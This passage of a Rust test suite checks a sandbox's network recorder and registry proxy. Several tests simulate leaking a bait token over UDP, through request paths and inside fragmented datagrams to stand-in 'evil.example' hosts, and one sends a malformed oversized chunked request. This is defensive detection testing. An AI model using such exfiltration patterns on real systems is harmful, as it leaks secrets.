            s.write_all(&sent).unwrap();
            // The catch-all answers 400 (or resets while the rest is in
            // flight) and closes.
            let catch_all_end = end_of(&mut s, IDLE + Duration::from_secs(8));

            let mut s = connect((HOST_ADDR, PROXY_PORT));
            // The proxy may close while the rest is still in flight.
            let _ = s.write_all(&sent);
            let reply = read_response(&mut s)
                .map(|r| r.status)
                .map_err(|e| e.kind());
            let proxy_end = end_of(&mut s, IO);
            (catch_all_end, reply, proxy_end)
        })
        .await;
    assert!(
        match &catch_all_end {
            End::Eof | End::Reset => true,
            End::Data(d) => d.starts_with(b"HTTP/1.1 400 "),
            End::Open => false,
        },
        "{catch_all_end:?}"
    );
    assert!(
        matches!(proxy_reply, Ok(400) | Err(ErrorKind::ConnectionReset)),
        "{proxy_reply:?}"
    );
    assert!(matches!(proxy_end, End::Eof | End::Reset), "{proxy_end:?}");

    let c = net
        .records(|c| !c.connections.is_empty() && c.http_requests.len() >= 2)
        .await;
    assert_eq!(c.connections.len(), 1, "{:?}", c.connections);
    let conn = &c.connections[0];
    assert_eq!(conn.protocol, "http");
    assert_eq!(conn.head, head[..4096]);
    assert_eq!(c.http_requests.len(), 2, "{:?}", c.http_requests);
    for via in ["catch-all", "registry-proxy"] {
        let r = c.http_requests.iter().find(|r| r.via == via).unwrap();
        assert_eq!(r.response_status, 400);
        assert!(r.refused.contains("65536"), "{:?}", r.refused);
    }
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn three_hundred_concurrent_connections_all_end() {
    const CLIENTS: usize = 300;
    let net = Net::start("many", vec![]).await;
    let path = net.path.clone();
    let (results, after) = net
        .run_for(Duration::from_secs(120), move || {
            let addr = resolve("many.evil.example");
            let clients: Vec<_> = (0..CLIENTS)
                .map(|i| {
                    let path = path.clone();
                    std::thread::Builder::new()
                        .stack_size(256 * 1024)
                        .spawn(move || -> Result<u16, String> {
                            enter(&path);
                            let to = SocketAddr::from((addr, 80));
                            let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(30))
                                .map_err(|e| format!("connect: {e}"))?;
                            s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
                            s.set_write_timeout(Some(Duration::from_secs(30))).unwrap();
                            let request = format!(
                                "GET /n/{i} HTTP/1.1\r\nHost: many.evil.example\r\nConnection: close\r\n\r\n"
                            );
                            s.write_all(request.as_bytes())
                                .map_err(|e| format!("write: {e}"))?;
                            let r = read_response(&mut s).map_err(|e| format!("read: {e}"))?;
                            match end_of(&mut s, Duration::from_secs(30)) {
                                End::Eof | End::Reset => Ok(r.status),
                                other => Err(format!("not closed: {other:?}")),
                            }
                        })
                        .expect("starting a client thread")
                })
                .collect();
            let results: Vec<Result<u16, String>> = clients
                .into_iter()
                .map(|t| t.join().unwrap_or_else(|_| Err("panicked".into())))
                .collect();
            // The host still answers.
            (results, resolve("after.many.example"))
        })
        .await;
    let failed: Vec<_> = results.iter().filter(|r| *r != &Ok(200)).collect();
    assert!(failed.is_empty(), "{} failed: {failed:?}", failed.len());
    assert!(in_pool(after));

    let c = net
        .records(|c| c.http_requests.len() >= CLIENTS && c.connections.len() >= CLIENTS)
        .await;
    assert_eq!(c.http_requests.len(), CLIENTS);
    assert_eq!(c.connections.len(), CLIENTS);
    let mut paths: Vec<&str> = c.http_requests.iter().map(|r| r.path.as_str()).collect();
    paths.sort_unstable();
    paths.dedup();
    assert_eq!(paths.len(), CLIENTS);
    assert!(c.connections.iter().all(|x| x.protocol == "http"));
    assert!(c.dns.iter().any(|q| q.hostname == "after.many.example"));
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn udp_datagrams_are_recorded_with_their_payload() {
    let net = Net::start("udp", vec![token()]).await;
    let payload = b"hello over udp \x00\x01\xff".to_vec();
    let leak = format!("k={}", hex::encode(TOKEN));
    let (p, l) = (payload.clone(), leak.clone());
    let addr = net
        .run(move || {
            let addr = resolve("udp.evil.example");
            let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.send_to(&p, (addr, 5353)).unwrap();
            socket
                .send_to(l.as_bytes(), (Ipv4Addr::new(10, 232, 99, 9), 9999))
                .unwrap();
            addr
        })
        .await;
    let c = net
        .records(|c| c.datagrams.len() >= 2 && !c.exfiltrations.is_empty())
        .await;
    let d = c
        .datagrams
        .iter()
        .find(|d| d.port == 5353)
        .unwrap_or_else(|| panic!("no datagram to 5353: {:?}", c.datagrams));
    assert_eq!(d.address, addr.to_string());
    assert_eq!(d.hostname, "udp.evil.example");
    assert_eq!(d.size, payload.len() as u64);
    assert_eq!(d.head, payload);
    let d = c
        .datagrams
        .iter()
        .find(|d| d.port == 9999)
        .unwrap_or_else(|| panic!("no datagram to 9999: {:?}", c.datagrams));
    assert_eq!(d.head, leak.as_bytes());
    assert_eq!(d.hostname, "");
    // DNS queries that parse are DNS records, not datagrams.
    assert!(
        c.datagrams.iter().all(|d| d.port != 53),
        "{:?}",
        c.datagrams
    );
    assert_eq!(c.datagrams.len(), 2);
    let e = &c.exfiltrations[0];
    assert_eq!((e.bait.as_str(), e.encoding.as_str()), ("env:TOKEN", "hex"));
    assert!(e.channel.contains("UDP"), "{e:?}");
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn addresses_outside_the_pool_are_unreachable_at_once() {
    let net = Net::start("unreach", vec![]).await;
    let (kind, code, took) = net
        .run(|| {
            let started = Instant::now();
            let to = SocketAddr::from((Ipv4Addr::new(203, 0, 113, 7), 443));
            let err = TcpStream::connect_timeout(&to, IO).expect_err("a route to 203.0.113.7");
            (err.kind(), err.raw_os_error(), started.elapsed())
        })
        .await;
    assert_eq!(kind, ErrorKind::HostUnreachable);
    assert_eq!(code, Some(113), "EHOSTUNREACH");
    assert!(took < Duration::from_secs(1), "took {took:?}");
    let c = net.records(|_| true).await;
    assert!(c.connections.is_empty() && c.http_requests.is_empty());
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_registry_proxy_refuses_what_it_must() {
    let net = Net::start("proxy", vec![token()]).await;
    let requests = [
        "GET /npm/left-pad HTTP/1.1\r\nHost: 10.231.0.1:3141\r\nAccept: application/json\r\n\r\n"
            .to_owned(),
        "GET http://x/ HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(),
        format!("GET /npm/{TOKEN} HTTP/1.1\r\nHost: 10.231.0.1:3141\r\n\r\n"),
    ];
    let statuses = net
        .run(move || {
            requests
                .iter()
                .map(|request| {
                    let mut s = connect((HOST_ADDR, PROXY_PORT));
                    s.write_all(request.as_bytes()).unwrap();
                    let r = read_response(&mut s).unwrap();
                    assert!(r.head.contains("Connection: close"), "{r:?}");
                    assert_eq!(end_of(&mut s, IO), End::Eof, "refused: closed");
                    r.status
                })
                .collect::<Vec<_>>()
        })
        .await;
    assert_eq!(statuses, [403, 403, 403]);
    let c = net
        .records(|c| c.http_requests.len() >= 3 && !c.exfiltrations.is_empty())
        .await;
    assert_eq!(c.http_requests.len(), 3, "{:?}", c.http_requests);
    for r in &c.http_requests {
        assert_eq!(r.via, "registry-proxy");
        assert_eq!(r.address, HOST_ADDR.to_string());
        assert_eq!(r.port, u32::from(PROXY_PORT));
        assert_eq!(r.response_status, 403);
        assert!(!r.refused.is_empty(), "{r:?}");
        assert_eq!(r.method, "GET");
    }
    let by_path = |p: &str| c.http_requests.iter().find(|r| r.path == p).unwrap();
    assert!(by_path("/npm/left-pad").refused.contains("npm"));
    assert!(by_path("http://x/")
        .refused
        .contains("not a registry request"));
    let bait = by_path(&format!("/npm/{TOKEN}"));
    assert!(bait.refused.contains("bait"), "{:?}", bait.refused);
    assert_eq!(c.exfiltrations.len(), 1, "{:?}", c.exfiltrations);
    let e = &c.exfiltrations[0];
    assert_eq!(
        (e.bait.as_str(), e.encoding.as_str()),
        ("env:TOKEN", "plain")
    );
    assert!(e.channel.contains("request line"), "{e:?}");
    assert!(c.fetched_packages.is_empty());
    net.remove().await;
}

async fn ip_netns_list() -> Vec<String> {
    tokio::time::timeout(
        SETUP_LIMIT,
        tokio::task::spawn_blocking(|| paddock_testkit::leftovers::namespaces_with("")),
    )
    .await
    .expect("ip netns list timed out")
    .expect("ip netns list")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn removal_leaves_no_namespace_behind() {
    let net = Net::start("rm", vec![]).await;
    let sandbox = net.ns.as_ref().unwrap().name().to_owned();
    let host = net
        .host
        .as_ref()
        .unwrap()
        .namespace()
        .expect("the host's namespace")
        .to_owned();
    let id = sandbox.strip_prefix("paddock-").unwrap();
    assert_eq!(host, format!("paddock-{id}-net"));
    let listed = ip_netns_list().await;
    assert!(listed.contains(&sandbox), "{listed:?}");
    assert!(listed.contains(&host), "{listed:?}");
    // Working, before it goes.
    net.run(|| resolve("before.removal.example")).await;
    net.remove().await;
    let listed = ip_netns_list().await;
    assert!(!listed.contains(&sandbox), "{listed:?}");
    assert!(!listed.contains(&host), "{listed:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]

async fn a_fragmented_datagram_is_recorded_whole() {
    let net = Net::start("frag", vec![token()]).await;
    let payload = [
        vec![b'x'; 2000],
        TOKEN.as_bytes().to_vec(),
        vec![b'y'; 1000],
    ]
    .concat();
    let p = payload.clone();
    net.run(move || {
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        socket
            .send_to(&p, (Ipv4Addr::new(10, 232, 7, 7), 7777))
            .unwrap();
    })
    .await;
    let c = net
        .records(|c| !c.datagrams.is_empty() && !c.exfiltrations.is_empty())
        .await;
    assert_eq!(c.datagrams.len(), 1, "{:?}", c.datagrams);
    let d = &c.datagrams[0];
    assert_eq!(d.port, 7777);
    assert_eq!(d.size, payload.len() as u64, "the datagram's size");
    assert_eq!(d.head, payload[..4096.min(payload.len())]);
    assert!(
        c.exfiltrations
            .iter()
            .any(|e| e.bait == "env:TOKEN" && e.channel.contains("UDP")),
        "the bait at byte 2000 of the datagram: {:?}",
        c.exfiltrations
    );
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]

async fn a_chunk_size_near_u64_max_is_refused_and_recorded() {
    let net = Net::start("chunkov", vec![]).await;
    let request = b"POST /huge-chunk HTTP/1.1\r\nHost: chunk.evil.example\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nffffffffffffffff\r\nmore";
    let statuses = net
        .run(move || {
            let addr = resolve("chunk.evil.example");
            [
                SocketAddr::from((addr, 80)),
                SocketAddr::from((HOST_ADDR, PROXY_PORT)),
            ]
            .into_iter()
            .map(|to| {
                let mut s = connect(to);
                s.write_all(request).unwrap();
                s.shutdown(Shutdown::Write).unwrap();
                let status = read_response(&mut s).map(|r| r.status);
                assert!(matches!(end_of(&mut s, IO), End::Eof | End::Reset));
                status.map_err(|e| e.to_string())
            })
            .collect::<Vec<_>>()
        })
        .await;
    let c = net
        .records(|c| c.http_requests.len() >= 2 && !c.connections.is_empty())
        .await;
    assert!(
        matches!(statuses[0], Ok(200)),
        "catch-all: {:?}",
        statuses[0]
    );
    assert!(
        matches!(statuses[1], Ok(s) if s >= 400),
        "proxy: {:?}",
        statuses[1]
    );
    assert_eq!(c.http_requests.len(), 2, "{:?}", c.http_requests);
    for r in &c.http_requests {
        assert_eq!(r.path, "/huge-chunk");
        assert!(r.body_size < 32 << 20, "{r:?}");
    }
    assert_eq!(c.connections.len(), 1);
    assert_eq!(c.connections[0].protocol, "http");
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]

async fn idle_catch_all_connections_do_not_starve_the_proxy() {
    let net = Net::start("starve", vec![]).await;
    let took = net
        .run(move || {
            let silent: Vec<TcpStream> = (0..130)
                .map(|i| connect((Ipv4Addr::new(10, 232, 3, 3), 1000 + i as u16)))
                .collect();
            std::thread::sleep(Duration::from_millis(300));
            let mut took = Vec::new();
            for _ in 0..2 {
                let started = Instant::now();
                let mut s = connect((HOST_ADDR, PROXY_PORT));
                s.write_all(b"GET /npm/left-pad HTTP/1.1\r\nHost: x\r\n\r\n")
                    .unwrap();
                assert_eq!(read_response(&mut s).unwrap().status, 403);
                took.push(("proxy", started.elapsed()));
            }
            for id in 0..2 {
                let q = dns_query(id, "tcp.example", 1);
                let started = Instant::now();
                let mut s = connect((HOST_ADDR, 53));
                s.write_all(&[&(q.len() as u16).to_be_bytes()[..], &q].concat())
                    .unwrap();
                let mut len = [0u8; 2];
                s.read_exact(&mut len).unwrap();
                took.push(("dns over tcp", started.elapsed()));
            }
            drop(silent);
            took
        })
        .await;
    for (what, t) in took {
        assert!(t < IDLE / 2, "{what} answered after {t:?}");
    }
    net.remove().await;
}
